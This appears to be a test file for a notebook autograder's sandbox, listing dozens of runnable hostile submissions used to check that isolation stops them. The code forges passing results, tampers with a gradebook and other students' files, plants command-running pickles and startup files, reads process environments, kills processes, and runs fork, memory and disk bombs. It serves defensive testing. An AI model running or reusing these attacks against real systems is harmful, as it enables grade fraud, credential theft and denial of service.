"""Submissions that try for more than they earned, or at what is not theirs. One line each says the idea.

The code runs in the submission's own process, after the cells of an untouched notebook (or of the solution, where the
attack spoils its answers), so an honest grader gives nothing. The test fills in `{course}` and `{klass}`, this
repository and a class with a gradebook beside it; `{port}`, a socket on which it listens; `{found}`, words that must
never be printed; and `{mark}`, a name for files by which they are known again.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from textwrap import dedent

import nbformat
from nbformat import NotebookNode, v4

from tests.accuracy import COURSE, exercises

__all__ = ["ATTACKS", "Attack"]

_LAB = COURSE / "labs" / "lab05_sampling" / "lab05_sampling.ipynb"
FUNCTIONS, METHODS = exercises(nbformat.read(_LAB, as_version=4))
ALL, BWRAP, OTHER_USER = ("bwrap", "uid", "none"), ("bwrap",), ("bwrap", "uid")


@dataclass(frozen=True)
class Attack:
    """An idea, and the levels that promise to stop it."""

    idea: str
    code: str = ""
    levels: tuple[str, ...] = ALL
    base: str = "student"  # or "solution"
    first: bool = False  # before all other cells, not after
    edit: Callable[[NotebookNode], None] | None = None  # of the notebook itself
    told: str = ""  # what the report must mention, as a pattern


ATTACKS: dict[str, Attack] = {}


def attack(name: str, idea: str, code: str = "", **options) -> None:
    """Add one to the list."""
    assert name not in ATTACKS
    ATTACKS[name] = Attack(idea, dedent(code).strip(), **options)


def everywhere(answer: str) -> str:
    """Code that puts the function named `answer` in the place of every graded method."""
    lines = [f"for _name in {names}: setattr({cls}, _name, {answer})" for cls, names in METHODS.items()]
    lines.append(f"for _name in {FUNCTIONS}: globals()[_name] = {answer}")
    return "\n".join(lines)


def instead(answer: str) -> str:
    """Code in which every graded method is `ANSWER`, as `answer` defines it."""
    return dedent(answer).strip() + "\n" + everywhere("ANSWER")


def spoiled(leaf: str) -> str:
    """Code that replaces every number, tensor and text in what the submission answers by `leaf(it)`."""
    return (
        dedent(leaf).strip()
        + "\n"
        + dedent("""
        import autograder.submission.server as _server
        def _spoil(value):
            if isinstance(value, (list, tuple)):
                return [_spoil(item) for item in value]
            if isinstance(value, dict):
                return {key: _spoil(item) for key, item in value.items()}
            return value if value is None else leaf(value)
        _server.Server._pack = lambda self, value: _spoil(value)
        """)
    )


# -- the notebook as a file ----------------------------------------------------------------------------------------


def _each_cell(change: Callable[[NotebookNode], None]) -> Callable[[NotebookNode], None]:
    def edit(notebook: NotebookNode) -> None:
        for cell in notebook.cells:
            change(cell)

    return edit


def _graded(change: Callable[[NotebookNode], None]) -> Callable[[NotebookNode], None]:
    return _each_cell(lambda cell: change(cell) if cell.metadata.get("nbgrader", {}).get("grade") else None)


def _set(cell: NotebookNode, **nbgrader) -> None:
    cell.metadata["nbgrader"].update(nbgrader)


def _repeat_graded(notebook: NotebookNode) -> None:
    passed = [v4.new_code_cell("print('all is well')", metadata=c.metadata, id=c.id) for c in notebook.cells]
    notebook.cells = [*passed, *notebook.cells, *passed]


attack(
    "skip-execution tags",
    "nbconvert skips cells so tagged, and nbgrader takes silence for success",
    edit=_each_cell(lambda cell: cell.metadata.update(tags=["skip-execution", "demo", "remove-cell"])),
)
attack(
    "rewritten checks",
    "put print('passed') where the check stands",
    edit=_graded(lambda cell: cell.update(source="print('✓ passed: 7 points')")),
)
attack(
    "deleted checks",
    "what is not there cannot fail",
    edit=lambda nb: nb.update(cells=[c for c in nb.cells if not c.metadata.get("nbgrader", {}).get("grade")]),
)
attack(
    "checks turned to text",
    "a Markdown cell of the same name does not run",
    edit=_graded(lambda cell: cell.update(cell_type="markdown", source="passed")),
)
attack(
    "points in the metadata",
    "metadata as configuration: a thousand points for each check",
    edit=_graded(lambda cell: _set(cell, points=1000, solution=True, locked=False, task=False)),
)
attack("duplicate ids", "every cell three times under its own name, the copies harmless", edit=_repeat_graded)
attack(
    "forged outputs",
    "the saved outputs already say that everything passed",
    edit=_graded(lambda cell: cell.update(outputs=[v4.new_output("stream", text="✓ passed\n")], execution_count=1)),
)
attack(
    "another kernel",
    "the notebook asks to be run by a kernel of the student's choice",
    edit=lambda nb: nb.metadata.update(
        kernelspec={"name": "bash", "language": "bash", "display_name": "sh"}, celltoolbar="x", nbgrader={"score": 89}
    ),
)
attack(
    "metadata of a schema to come",
    "unknown metadata that some later step might obey",
    edit=_each_cell(
        lambda cell: cell.metadata.update(
            jupyter={"source_hidden": True}, papermill={"status": "ok"}, nbgrader_score=89, editable=False, trusted=True
        )
    ),
)

# -- Python around the checks --------------------------------------------------------------------------------------

attack(
    "input transformer",
    "rewrite the cells that follow before they are compiled",
    """
    get_ipython().input_transformers_cleanup.append(lambda lines: ["print('passed')\\n"])
    """,
    first=True,
)
attack(
    "AST transformer",
    "drop every raise and every assert from the cells that follow",
    """
    import ast
    class Drop(ast.NodeTransformer):
        def visit_Raise(self, node): return ast.Pass()
        visit_Assert = visit_Raise
    get_ipython().ast_transformers.append(Drop())
    """,
    first=True,
)
attack(
    "IPython events and hooks",
    "swallow errors, and say that all went well after every cell",
    """
    shell = get_ipython()
    shell.events.register("post_run_cell", lambda result: (setattr(result, "error_in_exec", None), print("✓ passed")))
    shell.showtraceback = lambda *a, **k: print("✓ passed")
    shell.set_custom_exc((Exception,), lambda *a, **k: None)
    """,
    first=True,
)
attack(
    "formatters",
    "a display formatter that shows every value as a green line",
    """
    formatter = get_ipython().display_formatter
    formatter.format = lambda *a, **k: ({"text/plain": "✓ 89 points"}, {})
    formatter.formatters["text/plain"].for_type(object, lambda o, p, c: p.text("✓ 89 points"))
    """,
)
attack(
    "the kit's own check",
    "replace check() by one that is always pleased",
    """
    import difflab.check
    difflab.check.check = check = lambda *a, **k: print("✓ passed")
    """,
    first=True,
)
attack(
    "always-equal objects",
    "an answer that equals, exceeds and contains whatever it is compared with",
    instead("""
    class Yes:
        def __eq__(self, other): return True
        __ne__ = __lt__ = __le__ = __gt__ = __ge__ = __contains__ = __bool__ = __eq__
        def __getattr__(self, name): return self
        def __call__(self, *a, **k): return self
        def __float__(self): return 0.0
        def __len__(self): return 1
        def __iter__(self): return iter([self])
        def __hash__(self): return 0
    ANSWER = lambda *a, **k: Yes()
    """),
)
attack(
    "tensor subclass",
    "a tensor whose __torch_function__ answers True to every comparison",
    instead("""
    import torch
    class Agreeable(torch.Tensor):
        @classmethod
        def __torch_function__(cls, function, types, args=(), kwargs=None):
            if function.__name__ in ("allclose", "equal", "eq", "isclose", "all", "__bool__"): return True
            return super().__torch_function__(function, types, args, kwargs or {})
    def ANSWER(self, x=None, *a, **k):
        shape = x.shape if isinstance(x, torch.Tensor) else (4, 1, 28, 28)
        return torch.zeros(shape).as_subclass(Agreeable)
    """),
)
attack(
    "patched torch, numpy and time",
    "comparisons that always hold, a clock that stands still",
    """
    import time, numpy, torch
    for module in (torch, numpy):
        for name in ("allclose", "isclose", "equal", "array_equal", "isfinite", "all", "any"):
            if hasattr(module, name): setattr(module, name, lambda *a, **k: True)
    torch.Tensor.__eq__ = lambda *a: torch.tensor(True)
    torch.Tensor.all = lambda *a, **k: True
    time.perf_counter = time.monotonic = time.time = lambda: 0.0
    """
    + everywhere("lambda *a, **k: torch.zeros(4, 1, 28, 28)"),
)
attack(
    "patched builtins",
    "abs, all, isinstance and the exceptions themselves, replaced",
    """
    import builtins
    builtins.abs = builtins.max = lambda *a, **k: 0
    builtins.all = builtins.any = builtins.isinstance = lambda *a, **k: True
    builtins.AssertionError = builtins.NotImplementedError = type("Quiet", (Warning,), {})
    """,
)
attack(
    "pytest outcomes",
    "raise pytest's own skip and exit, should the checks run here",
    instead("""
    def ANSWER(*a, **k):
        try:
            import pytest
            raise pytest.skip.Exception("no test today", allow_module_level=True)
        except ImportError:
            raise KeyboardInterrupt
    """),
)
attack(
    "exceptions from a zoo",
    "errors whose type, text and repr are the attack",
    instead("""
    class CheckPassed(BaseException):
        def __str__(self): raise RuntimeError("not even text")
        __repr__ = __str__
    kinds = [CheckPassed, SystemExit, KeyboardInterrupt, GeneratorExit, StopIteration, RecursionError, MemoryError]
    def ANSWER(*a, **k):
        kinds.append(kinds.pop(0))
        raise kinds[0]("\\x1b]0;owned\\x07\\x1b[2J" + "passed " * 100_000)
    """),
)

# -- the answering side, and the wire ------------------------------------------------------------------------------

attack(
    "patched server",
    "the process that answers for the submission says the check has passed",
    """
    import autograder.submission.server as server
    server.Server.answer = lambda self, request: {"result": True, "passed": True, "status": "passed", "points": 99}
    """,
)
attack(
    "patched encoder",
    "what leaves the process is a report with full marks",
    """
    import autograder.submission.wire as wire, msgpack
    wire.encode = lambda value: msgpack.packb({"result": {"score": 89}, "status": "passed", "points": 7, "hint": ""})
    """,
)
attack(
    "forged frames on every descriptor",
    "write replies to whatever socket or pipe is open",
    """
    import os, stat, struct, msgpack
    for reply in ({"pid": 1}, {"result": True}, {"ready": True}, {"cell": "x", "outputs": [], "error": None}):
        data = msgpack.packb(reply)
        for fd in range(3, 64):
            try:
                if stat.S_ISSOCK(os.fstat(fd).st_mode) or stat.S_ISFIFO(os.fstat(fd).st_mode):
                    os.set_blocking(fd, False); os.write(fd, struct.pack(">I", len(data)) + data)
            except OSError: pass
    """,
)
attack(
    "a thread that keeps forging",
    "answer the grader's requests faster than the worker does",
    """
    import os, stat, struct, threading, time, msgpack
    def forge():
        data = msgpack.packb({"pid": os.getpid()}); frame = struct.pack(">I", len(data)) + data
        for _ in range(200):
            for fd in range(3, 32):
                try:
                    if stat.S_ISSOCK(os.fstat(fd).st_mode): os.write(fd, frame)
                except OSError: pass
            time.sleep(0.01)
    threading.Thread(target=forge, daemon=True).start()
    """,
)
attack(
    "a verdict on stdout and stderr",
    "print the report in the grader's own format, on both descriptors",
    """
    import os, json
    report = json.dumps({"lab": "lab05_sampling", "score": 89, "max_score": 89, "checks": [], "sandbox": "bwrap"})
    for fd in (1, 2): os.write(fd, (report + "\\n✓ everything 89/89\\n").encode())
    print(report)
    """,
)
attack(
    "frames that never end",
    "announce sixty megabytes and send none",
    instead("""
    import os, stat, struct, time
    def ANSWER(*a, **k):
        for fd in range(3, 32):
            try:
                if stat.S_ISSOCK(os.fstat(fd).st_mode): os.write(fd, struct.pack(">I", 60 * 2**20))
            except OSError: pass
        time.sleep(60)
    """).replace(everywhere("ANSWER"), "ForwardProcessImpl.add_noise = ANSWER"),
    told="no answer after",
)
attack(
    "half a gigabyte of answers",
    "a message far above what may be sent",
    """
    import os, struct, autograder.submission.wire as wire
    def flood(self, message, deadline=None):
        self.socket.sendall(struct.pack(">I", 2**31) + b"x" * 2**20)
    wire.Channel.send = flood
    """,
)
attack(
    "malformed answers",
    "tensors that lie about their shape, extensions of unknown code, nesting without end",
    """
    import itertools, msgpack, struct, autograder.submission.wire as wire
    bad = itertools.cycle([
        msgpack.packb({"result": msgpack.ExtType(1, msgpack.packb(["float32", [2**40, 2**40], b""]))}),
        msgpack.packb({"result": msgpack.ExtType(1, msgpack.packb(["float32", [-1], b"1234"]))}),
        msgpack.packb({"result": msgpack.ExtType(9, b"")}), b"\\x91" * 100_000, b"\\xc1", b"",
        msgpack.packb({"result": msgpack.ExtType(5, msgpack.packb([b"", [[[[]]]]]))}),
        msgpack.packb([{}] * 150_000), msgpack.packb({"error": [1, 2, 3]}), msgpack.packb({"ask": [0, "forward"]}),
        msgpack.packb({"changed": {}, "result": None}), msgpack.packb({"missing": ["x"] * 1000}),
    ])
    def send(self, message, deadline=None):
        data = next(bad); self.socket.sendall(struct.pack(">I", len(data)) + data)
    wire.Channel.send = send
    """,
)
attack(
    "methods of the grader's network",
    "ask the grader's objects for more than they offer",
    instead("""
    def ANSWER(self, *a, **k):
        model = getattr(self, "model", None)
        for number in range(-1, 3):
            for method in ("__init__", "__class__", "__dict__", "calls", "expected", "coefficients", "schedule"):
                try: return model._ask(number, method, [])
                except Exception as error: last = error
        raise last
    """),
)
attack(
    "replies out of turn",
    "send two replies, so that the second answers a question not yet asked",
    """
    import autograder.submission.wire as wire
    send = wire.Channel.send
    def twice(self, message, deadline=None):
        send(self, message); send(self, {"result": True})
    wire.Channel.send = twice
    """
    + everywhere("lambda *a, **k: 0.0"),
)
attack(
    "a flood of network calls",
    "make the grader remember more calls than it has memory",
    instead("""
    import torch
    def ANSWER(self, *a, **k):
        x = torch.zeros(1, 1, 28, 28)
        while True: self.model(x, torch.tensor([0]))
    """).replace(everywhere("ANSWER"), "DDPMSampler.ddpm_step = ANSWER"),
)
attack(
    "giant batches",
    "show the grader's network sixty megabytes at a time",
    instead("""
    import torch
    def ANSWER(self, *a, **k):
        for _ in range(100): self.model(torch.zeros(20_000, 1, 28, 28), torch.zeros(20_000, dtype=torch.long))
    """).replace(everywhere("ANSWER"), "DDPMSampler.ddpm_step = ANSWER"),
)
attack(
    "frames of the stack",
    "walk up sys._getframe to the code that judges",
    """
    import sys
    frame, seen = sys._getframe(), []
    while frame:
        seen += [value for value in [*frame.f_locals.values(), *frame.f_globals.values()]
                 if "CheckResult" in type(value).__name__ or "Report" in type(value).__name__]
        frame = frame.f_back
    for value in seen: object.__setattr__(value, "points", 99)
    """,
)
attack(
    "garbage collector",
    "find the grader's oracles and results among all living objects",
    """
    import gc
    for thing in gc.get_objects():
        name = type(thing).__name__
        if "Oracle" in name or name in ("CheckResult", "Report", "Submission", "Graded"):
            print("found", name)
            for field in ("points", "max_points", "score"):
                try: object.__setattr__(thing, field, 99)
                except Exception: pass
    """,
)
attack(
    "remembered inputs",
    "keep what one check was asked and answer the next with it",
    instead("""
    import mmap, pickle, torch
    shared = mmap.mmap(-1, 2**22)
    def ANSWER(self, *a, **k):
        shared.seek(0)
        try: old = pickle.loads(shared.read())
        except Exception: old = None
        tensors = [v for v in a if isinstance(v, torch.Tensor)]
        data = pickle.dumps(tensors[:1]); shared.seek(0); shared.write(data[:2**22])
        return old[0] if old else (tensors[0] if tensors else 0.0)
    """),
)
attack(
    "remembered seeds",
    "guess the grader's generator from small seeds and predict what it will ask",
    instead("""
    import torch
    def ANSWER(self, x=None, *a, **k):
        shape = x.shape if isinstance(x, torch.Tensor) else (4, 1, 28, 28)
        for seed in range(50):
            guess = torch.randn(shape, generator=torch.Generator().manual_seed(seed))
            if isinstance(x, torch.Tensor) and torch.allclose(guess, x): return guess
        torch.manual_seed(0)
        return torch.randn(shape)
    """),
)
attack(
    "no fork",
    "patch os.fork, so that checks share a state in which answers are kept",
    """
    import os, socket
    os.fork = lambda: 0
    os.setsid = lambda: None
    """,
)

# -- answers of the wrong kind -------------------------------------------------------------------------------------

attack(
    "NaN in every answer",
    "comparisons with NaN are false, so no limit is exceeded",
    spoiled("""
    import torch
    def leaf(value):
        return torch.full_like(value, float("nan"), dtype=torch.float32) if isinstance(value, torch.Tensor) \\
            else float("nan")
    """),
    base="solution",
)
attack(
    "infinity in every answer",
    "a relative error against infinity is small",
    spoiled("""
    import torch
    def leaf(value):
        return torch.full_like(value, float("inf"), dtype=torch.float32) if isinstance(value, torch.Tensor) \\
            else float("inf")
    """),
    base="solution",
)
attack(
    "complex answers",
    "a complex tensor whose real part is right",
    spoiled("""
    import torch
    leaf = lambda value: value.to(torch.complex64) if isinstance(value, torch.Tensor) else complex(1)
    """),
    base="solution",
)
attack(
    "sparse answers",
    "a sparse tensor of the right values",
    spoiled("""
    import torch
    leaf = lambda value: value.to_sparse() if isinstance(value, torch.Tensor) and value.ndim else object()
    """),
    base="solution",
)
attack(
    "meta answers",
    "tensors of the right shape without any values",
    spoiled("""
    import torch
    leaf = lambda value: value.to("meta") if isinstance(value, torch.Tensor) else type
    """),
    base="solution",
)
attack(
    "broadcasting shapes",
    "one number, in a shape that broadcasts against every expected one",
    spoiled("""
    import torch
    leaf = lambda value: torch.zeros(1, 1, 1, 1, 1)
    """),
    base="solution",
)
attack(
    "giant answers",
    "a view of one number that is a terabyte when written out",
    spoiled("""
    import torch
    leaf = lambda value: torch.zeros(1).expand(2**20, 2**20)
    """),
    base="solution",
)
attack(
    "hostile objects",
    "answers that act when pickled, converted, measured or walked through",
    spoiled("""
    import os
    class Bomb:
        def __reduce__(self): return (os.system, ("touch {klass}/owned",))
        def __array__(self, *a, **k): os._exit(1)
        def __len__(self): return 2**62
        def __getattr__(self, name): raise MemoryError(name)
        def __iter__(self):
            while True: yield self
    leaf = lambda value: Bomb()
    """),
    base="solution",
)
attack(
    "answers without end",
    "a list that contains itself, a generator that never stops",
    instead("""
    endless = []; endless.append(endless)
    def forever():
        while True: yield 0
    def ANSWER(self, x=None, *a, **k): return endless if x is not None else forever()
    """),
)
attack(
    "poisoned pickles",
    "the bytes of a pickle that runs a command, as text and as tensor",
    spoiled("""
    import pickle, os, torch
    class Run:
        def __reduce__(self): return (os.system, ("touch {klass}/owned",))
    payload = pickle.dumps(Run())
    leaf = lambda value: torch.frombuffer(bytearray(payload), dtype=torch.uint8)
    """),
    base="solution",
)

# -- files and modules ---------------------------------------------------------------------------------------------

attack(
    "shadowing modules",
    "torch.py, msgpack.py, conftest.py and the kit, written where Python looks first",
    """
    import os, sys
    evil = "import os; os.system('touch {klass}/owned')\\ndef __getattr__(name): return lambda *a, **k: True\\n"
    names = ["torch", "msgpack", "conftest", "sitecustomize", "usercustomize", "difflab", "autograder", "pytest"]
    for folder in [os.getcwd(), os.path.expanduser("~"), "/tmp", "{course}", "{course}/autograder/checks", *sys.path]:
        for name in names:
            try: open(os.path.join(folder, name + ".py"), "x").write(evil)
            except OSError: pass
    """,
    levels=OTHER_USER,
)
attack(
    "the kit overwritten",
    "change the files that the next submission will import",
    """
    import difflab.schedule, autograder.submission.server as server, torch, msgpack, os
    for module in (difflab.schedule, server, torch, msgpack):
        for act in (lambda f: open(f, "a").write("\\nOWNED = 1\\n"), os.unlink, lambda f: os.chmod(f, 0o777)):
            try: act(module.__file__); print("changed", module.__file__)
            except OSError: pass
    """,
    levels=OTHER_USER,
)
attack(
    "startup files",
    ".pth files, profiles and start-up scripts for whoever comes next",
    """
    import glob, os, site, sys
    line = "import os; os.system('touch {klass}/owned')\\n"
    places = [*site.getsitepackages(), site.getusersitepackages(), "~/.ipython/profile_default/startup", "~/.config",
              "~/.jupyter", "/etc", "/etc/profile.d", "/usr/local/bin", os.path.dirname(sys.executable)]
    for place in map(os.path.expanduser, places):
        try: os.makedirs(place, exist_ok=True)
        except OSError: continue
        for name in ("zz.pth", "00-start.py", "jupyter_config.py", ".bashrc"):
            try: open(os.path.join(place, name), "x").write(line)
            except OSError: pass
    """,
    levels=OTHER_USER,
)
attack(
    "symlinks in the way of the broom",
    "links to the course where the grader cleans up",
    """
    import os
    home = os.path.expanduser("~")
    for number, target in enumerate(["{course}", "{klass}", "/"]):
        for folder in (home, "/tmp", "/dev/shm"):
            try: os.symlink(target, os.path.join(folder, f"{mark}-{number}"))
            except OSError: pass
    try:
        os.rename(home, home + "-moved"); os.symlink("{klass}", home)
    except OSError: pass
    """,
    levels=OTHER_USER,
)
attack(
    "reading the solutions",
    "run the instructor's own solution in place of the stubs",
    """
    import glob, os
    found = [p for top in ("{course}", "{klass}") for p in glob.glob(top + "/**/lab05_sampling.py", recursive=True)]
    for path in ["{course}/solutions/lab05_sampling.py", *found]:
        try: exec(open(path).read(), globals())
        except Exception as error: print(type(error).__name__)
    """,
    levels=BWRAP,
)
attack(
    "the checks' formulas",
    "import the grader's oracles and let them answer",
    """
    from autograder.checks import oracles
    print("{found}")
    """,
    levels=BWRAP,
)
attack(
    "the gradebook",
    "UPDATE grade SET score = 100",
    """
    import glob, sqlite3
    for path in ["{klass}/gradebook.db", *glob.glob("/**/gradebook.db"), *glob.glob("/work/*/*/gradebook.db")]:
        try:
            with sqlite3.connect(path) as book: book.execute("UPDATE grade SET score = 100")
        except sqlite3.Error: pass
    """,
    levels=OTHER_USER,
)
attack(
    "a neighbour's submission",
    "change what another student has handed in, and the reports already made",
    """
    import os
    for name in ("submitted/neighbour/lab05_sampling/lab05_sampling.ipynb", "reports/key.json", "secret.txt"):
        try: open("{klass}/" + name, "w").write("owned")
        except OSError: pass
        try: os.rename("{klass}/" + name, "{klass}/" + name + ".gone")
        except OSError: pass
    """,
    levels=OTHER_USER,
)
attack(
    "reading a neighbour's answers",
    "print what lies in the class's folder, the secret included",
    """
    import os
    for top, folders, files in os.walk("{klass}"):
        for name in files:
            try: print(open(os.path.join(top, name), errors="replace").read())
            except OSError: pass
    """,
    levels=BWRAP,
)
attack(
    "something left in /tmp",
    "files for the next submission to stumble over",
    """
    import os
    for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run", "/home"):
        try:
            os.makedirs(folder + "/{mark}/torch", exist_ok=True)
            open(folder + "/{mark}/torch/__init__.py", "w").write("raise SystemExit")
            open(folder + "/{mark}-file", "w").write("x")
        except OSError: pass
    """,
    levels=OTHER_USER,
)

# -- the machine ---------------------------------------------------------------------------------------------------

attack(
    "environment",
    "tokens in the environment of the grader",
    """
    import os
    print(dict(os.environ))
    """,
)
attack(
    "/proc",
    "environment, memory and open files of the grader, through /proc",
    """
    import glob, os
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        try: print(open(path, "rb").read())
        except OSError: pass
    for path in glob.glob("/proc/[0-9]*/fd/*"):
        try: print(os.readlink(path))
        except OSError: pass
    for path in glob.glob("/proc/[0-9]*/mem"):
        if path.split("/")[2] != str(os.getpid()):
            try: open(path, "r+b").write(b"x")
            except OSError: pass
    """,
    levels=OTHER_USER,
)
attack(
    "ptrace",
    "attach to the grader and stop it",
    """
    import ctypes, os
    libc = ctypes.CDLL(None)
    for pid in {os.getppid(), 1, *range(max(2, os.getppid() - 20), os.getppid() + 1)} - {os.getpid()}:
        libc.ptrace(16, pid, 0, 0)
    """,
    levels=OTHER_USER,
)
attack(
    "signals to the grader",
    "kill the parent, its group, and everything there is",
    """
    import os, signal
    for pid in (os.getppid(), -os.getppid(), 1):
        for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGINT):
            try: os.kill(pid, number)
            except OSError: pass
    try: os.kill(-1, signal.SIGSTOP)
    except OSError: pass
    """,
    levels=OTHER_USER,
)
attack(
    "becoming root",
    "setuid, new namespaces, mounts, kernel settings",
    """
    import ctypes, os
    libc = ctypes.CDLL(None, use_errno=True)
    for act in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setgroups([0]), lambda: os.chroot("/"),
                lambda: open("/proc/sys/kernel/hostname", "w").write("owned"),
                lambda: open("/proc/sysrq-trigger", "w").write("h"),
                lambda: os.mknod("/tmp/{mark}-device", 0o60666, os.makedev(254, 0))):
        try: act(); print("{found}")
        except OSError: pass
    libc.unshare(0x10000000 | 0x00020000)
    if libc.mount(b"none", b"{klass}", b"tmpfs", 0, None) == 0: print("mounted")
    if os.getuid() == 0 and os.path.exists("{klass}/secret.txt"): print("{found}")
    """,
    levels=OTHER_USER,
)
attack(
    "sockets",
    "send what was found to a server outside",
    """
    import socket
    for family, address in ((socket.AF_INET, ("127.0.0.1", {port})), (socket.AF_UNIX, "\\0difflab-{port}"),
                            (socket.AF_UNIX, "{klass}/listener")):
        with socket.socket(family) as sock:
            sock.settimeout(1)
            try: sock.connect(address); sock.sendall(b"found you")
            except OSError: pass
    """,
    levels=BWRAP,
)

# -- resources -----------------------------------------------------------------------------------------------------

attack(
    "fork bomb",
    "processes that do nothing but multiply",
    """
    import os
    while True:
        try: os.fork()
        except OSError: pass
    """,
    levels=OTHER_USER,
)
attack(
    "a fork bomb in a method",
    "the same, while a check waits",
    """
    import os
    def bomb(*a, **k):
        while True:
            try: os.fork()
            except OSError: pass
    ForwardProcessImpl.add_noise = bomb
    """,
    levels=OTHER_USER,
    told="no answer after",
)
attack(
    "threads without end",
    "as many threads as the machine will give",
    """
    import threading, time
    while True: threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
    """,
)
attack(
    "memory bomb in a cell",
    "all the memory there is",
    """
    hoard = []
    while True: hoard.append(bytearray(2**28))
    """,
    told="MemoryError|memory: the submission held|stopped after 2 s",  # whichever comes first
)
attack(
    "memory bomb in a method",
    "all the memory there is, while a check waits",
    """
    import torch
    def hoard(*a, **k):
        kept = []
        while True: kept.append(torch.empty(2**28))
    ForwardProcessImpl.add_noise = hoard
    """,
    told="memory",
)
attack(
    "memory shared among processes",
    "each within its limit, together beyond it",
    """
    import os, time
    for _ in range(12):
        if os.fork() == 0:
            kept = [bytearray(os.urandom(2**20)) * 300]
            time.sleep(30); os._exit(0)
    time.sleep(30)
    """,
    told="memory: the submission held more than",
)
attack(
    "disk bomb",
    "files without end, wherever one may write",
    """
    import os
    for folder in (os.path.expanduser("~"), "/tmp", "/dev/shm", "/var/tmp"):
        try:
            for number in range(10_000):
                with open(f"{folder}/{mark}-{number}", "wb") as file: file.write(bytes(2**25))
        except OSError as error: print(error)
    """,
    levels=BWRAP,
)
attack(
    "one giant file",
    "a single file that fills the disk",
    """
    with open("giant", "wb") as file:
        while True: file.write(bytes(2**25))
    """,
)
attack(
    "output bomb",
    "text and pictures without end, on every channel",
    """
    import os, sys
    from IPython.display import display, Image
    for _ in range(3000):
        print("x" * 10**5); sys.stderr.write("y" * 10**5)
        display({"image/png": "A" * 10**5, "text/html": "<script>alert(1)</script>"}, raw=True)
    for _ in range(400): os.write(1, b"z" * 65536); os.write(2, b"z" * 65536)
    """,
)
attack(
    "open files",
    "every descriptor the process may have",
    """
    import os
    kept = []
    try:
        while True: kept.append(os.open("/dev/null", os.O_RDONLY))
    except OSError: pass
    """,
)
attack(
    "a detached process",
    "a daemon that outlives the submission, and changes things later",
    """
    import os, sys, time
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for fd in range(64):
                try: os.close(fd)
                except OSError: pass
            time.sleep(30)
            os._exit(0)
        os._exit(0)
    """,
)
attack(
    "a program left running",
    "another program, started in a session of its own",
    """
    import subprocess
    for _ in range(3): subprocess.Popen(["sleep", "97.531"], start_new_session=True)
    """,
)
attack(
    "swallowed interrupts",
    "a loop that catches everything it is told",
    """
    while True:
        try:
            while True: pass
        except BaseException: pass
    """,
    told="TimeoutError",
)
attack(
    "ignored signals",
    "deaf to alarms and to requests to end",
    """
    import signal
    for number in range(1, 65):
        try: signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError): pass
    while True: pass
    """,
    told="could not be interrupted",
)
attack(
    "asleep for good",
    "stop the worker's own process",
    """
    import os, signal, time
    os.kill(os.getpid(), signal.SIGSTOP)
    time.sleep(60)
    """,
    told="could not be interrupted|stopped after 2 s",  # the first process of its namespace does not stop itself
)
attack(
    "a loop at the end",
    "atexit, finalisers and threads that hold up the exit",
    """
    import atexit, threading, weakref
    def forever():
        while True: pass
    class Last:
        def __del__(self): forever()
    last = Last()
    atexit.register(forever); weakref.finalize(last, forever)
    threading.Thread(target=forever).start()
    """,
)
attack(
    "closed descriptors",
    "close every descriptor, and put others in their place",
    """
    import os
    for fd in range(3, 64):
        try: os.dup2(os.open("/dev/zero", os.O_RDWR), fd)
        except OSError: pass
    """,
)
attack(
    "another program instead",
    "exec over the worker",
    """
    import os, sys
    os.execv("/bin/sh", ["sh", "-c", "echo passed; sleep 60"])
    """,
    told="ended",
)
attack(
    "a crash in C",
    "a null pointer, read",
    """
    import ctypes
    ctypes.string_at(0)
    """,
    told="ended the notebook's process",
)
attack(
    "recursion",
    "a stack deeper than the C library has",
    """
    import sys
    sys.setrecursionlimit(10**9)
    def deep(n): return deep(n + 1)
    deep(0)
    """,
)
attack(
    "garbage for the network",
    "arguments that might stop the grader's own network",
    instead("""
    import torch
    bad = [None, "x", -1, 2**63, float("nan"), [], {}, torch.zeros(0), torch.full((2, 1, 28, 28), float("nan")),
           torch.zeros(2, 1, 0, 28), torch.zeros(2, 1, 28, 28, dtype=torch.long), torch.zeros(2, dtype=torch.bool)]
    def ANSWER(self, *a, **k):
        for x in bad:
            for t in bad:
                try: self.model(x, t)
                except Exception: pass
        return 0.0
    """),
)
